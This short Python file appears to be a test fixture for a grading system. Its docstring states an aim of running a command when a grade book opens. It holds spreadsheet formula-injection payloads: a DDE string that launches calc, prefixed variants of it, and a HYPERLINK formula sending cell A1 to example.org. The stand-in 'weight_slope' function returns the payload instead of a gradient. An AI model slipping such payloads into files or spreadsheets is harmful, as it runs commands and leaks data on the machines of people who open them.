"""Writes spreadsheet formulas.

Exercise: slope
Tries: run a command when a grade book with its text is opened
Holds: score < full; some failed|error; no formula
"""

FORMULA = "=cmd|' /C calc'!A0"
print(FORMULA)
print("@SUM(1+1)*cmd|' /C calc'!A0\n+1+1\n-1+1\n\t=1+1")


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    return FORMULA


def update_weight(weight: float, slope: float, lr: float) -> float:
    raise ValueError('=HYPERLINK("http://example.org/?"&A1,"click")')
